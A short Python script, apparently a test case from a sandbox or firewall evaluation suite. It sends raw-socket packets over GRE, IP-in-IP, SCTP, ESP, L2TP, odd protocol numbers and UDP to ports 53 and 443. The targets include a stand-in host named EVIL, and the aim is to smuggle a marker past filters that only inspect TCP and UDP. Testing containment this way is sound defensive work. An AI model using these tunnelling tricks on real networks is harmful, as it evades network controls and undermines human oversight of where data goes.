# SPDX-License-Identifier: Apache-2.0
# Trick: GRE, IP in IP, SCTP, ESP, L2TP and unknown protocols from a raw socket
# Gain: filters that know of TCP and UDP alone
from trick import *

s = packets("raw socket", socket.AF_INET, socket.SOCK_RAW, 255)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
inner = ipv4(EVIL, 17, udp_datagram(5, 5, b"brig-smuggled"))
done = 0
for dst in (EVIL, API, GATE, "11.0.0.2"):
    for proto, data in ((47, b"\0\0\x08\0" + inner), (4, inner), (41, inner), (132, os.urandom(24)), (50, os.urandom(40)),
                        (115, os.urandom(20)), (136, udp_datagram(1, 53, b"x")), (33, os.urandom(20)), (254, b"brig-smuggled"),
                        (17, udp_datagram(1, 443, b"brig-smuggled")), (17, udp_datagram(53, 53, b"brig-smuggled"))):
        try:
            s.sendto(ipv4(dst, proto, data), (dst, 0))
            done += 1
        except OSError as e:
            hear(repr(e).encode())
stopped(f"{done} were sent, and none arrived")
